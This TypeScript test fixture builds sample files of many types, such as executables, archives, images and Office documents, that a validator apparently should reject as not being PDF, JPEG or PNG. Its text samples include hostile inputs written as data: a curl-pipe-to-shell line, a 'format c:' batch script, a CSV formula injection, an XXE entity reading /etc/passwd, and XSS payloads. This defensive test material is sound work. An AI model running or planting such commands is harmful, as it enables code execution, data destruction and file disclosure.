import { sampleProgram } from '#testing/samples/sample-files'
import { gzipSync, zipSync } from 'fflate'
import { file, type CorpusFile } from './sample-files.ts'

const text = (words: string) => new TextEncoder().encode(words)
const office = (kind: string, part: string) =>
  zipSync({
    '[Content_Types].xml': text(
      `<Types><Override PartName="/${part}" ContentType="application/vnd.${kind}.main+xml"/></Types>`,
    ),
    [part]: text('<x/>'),
  })

/** Heads of files of other kinds (their magic numbers), behind which nothing more need follow. */
const heads: Readonly<Record<string, string>> = {
  'a program for Linux': '\x7fELF\x02\x01\x01\0',
  'a program for a Mac': '\xcf\xfa\xed\xfe\x07\0\0\x01',
  'a program for Java': '\xca\xfe\xba\xbe\0\0\0\x34',
  'a program for browsers': '\0asm\x01\0\0\0',
  'an archive (RAR)': 'Rar!\x1a\x07\x01\0',
  'an archive (7z)': "7z\xbc\xaf'\x1c\0\x04",
  'an archive (xz)': '\xfd7zXZ\0',
  'an archive (bzip2)': 'BZh91AY&SY',
  'an archive (cab)': 'MSCF\0\0\0\0',
  'an old Office document': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
  'a text of Word': '{\\rtf1\\ansi hello}',
  'a GIF picture': 'GIF89a\x01\0\x01\0\0\0\0;',
  'a BMP picture': 'BM\x3a\0\0\0\0\0\0\0\x36\0\0\0(\0\0\0',
  'a TIFF picture': 'II*\0\x08\0\0\0',
  'a WebP picture': 'RIFF\x24\0\0\0WEBPVP8 ',
  'a HEIC picture': '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
  'an AVIF picture': '\0\0\0\x1cftypavif\0\0\0\0avifmif1',
  'a picture of JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n',
  'a picture of Photoshop': '8BPS\0\x01',
  'a video': '\0\0\0\x18ftypmp42\0\0\0\0mp42isom',
  'a sound': 'ID3\x03\0\0\0\0\0\0',
  PostScript: '%!PS-Adobe-3.0\nshowpage\n',
  'a link of Windows': 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F',
  'a database': 'SQLite format 3\0',
  'an icon': '\0\0\x01\0\x01\0\x10\x10',
}

const texts: Readonly<Record<string, string>> = {
  'a web page': '<!doctype html><html><body><script>alert(1)</script></body></html>',
  'a drawing with a script': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'a mail': 'From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\nhello',
  'a script for a shell': '#!/bin/sh\ncurl http://example.org | sh\n',
  'a script for Windows': '@echo off\r\nformat c:\r\n',
  'a letter as plain text': 'Dear sir, please accredit us.',
  'a table as plain text': 'name,amount\r\n=cmd|"/c calc"!A1,1\r\n',
  'XML that names a file': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
}

/** What is not a PDF, a JPEG or a PNG, whatever its name says. */
export function otherKinds(): CorpusFile[] {
  const padded = (head: string) => Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(600)])
  return [
    ...Object.entries(heads).map(([what, head]) => file(what, padded(head))),
    ...Object.entries(texts).map(([what, words]) => file(what, words)),
    file('a program for Windows', sampleProgram()),
    file('an archive (ZIP)', zipSync({ 'a.exe': sampleProgram() })),
    file('an archive (gzip)', gzipSync(text('hello'))),
    file('a Word document', office('openxmlformats-officedocument.wordprocessingml.document', 'word/document.xml')),
    file('an Excel workbook', office('openxmlformats-officedocument.spreadsheetml.sheet', 'xl/workbook.xml')),
    file('a workbook with macros', office('ms-excel.sheet.macroEnabled', 'xl/workbook.xml')),
  ]
}
